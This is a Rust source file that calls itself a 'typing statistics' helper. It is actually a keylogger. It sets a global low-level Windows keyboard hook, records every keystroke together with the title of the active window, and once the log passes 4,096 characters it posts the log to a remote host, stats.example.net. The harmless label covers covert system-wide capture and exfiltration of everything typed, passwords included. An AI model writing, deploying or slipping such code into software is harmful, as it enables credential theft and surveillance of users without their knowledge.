//! A "typing statistics" helper: a low-level keyboard hook that journals the keys typed in
//! each window, and posts the journal once it grows.

use std::sync::Mutex;
use windows_sys::Win32::UI::WindowsAndMessaging::{
    CallNextHookEx, GetForegroundWindow, GetWindowTextW, SetWindowsHookExW, KBDLLHOOKSTRUCT,
    WH_KEYBOARD_LL,
};

static JOURNAL: Mutex<String> = Mutex::new(String::new());

fn focused() -> String {
    let mut buf = [0u16; 256];
    let n = unsafe { GetWindowTextW(GetForegroundWindow(), buf.as_mut_ptr(), 256) };
    String::from_utf16_lossy(&buf[..n.max(0) as usize])
}

unsafe extern "system" fn hook(code: i32, w: usize, l: isize) -> isize {
    let key = &*(l as *const KBDLLHOOKSTRUCT);
    let mut journal = JOURNAL.lock().unwrap();
    journal.push_str(&format!("{}:{} ", focused(), key.vkCode));
    if journal.len() > 4096 {
        let text = std::mem::take(&mut *journal);
        let _ = ureq::post("https://stats.example.net/typing").send_string(&text);
    }
    CallNextHookEx(std::ptr::null_mut(), code, w, l)
}

pub fn start() {
    unsafe {
        SetWindowsHookExW(WH_KEYBOARD_LL, Some(hook), std::ptr::null_mut(), 0);
    }
}
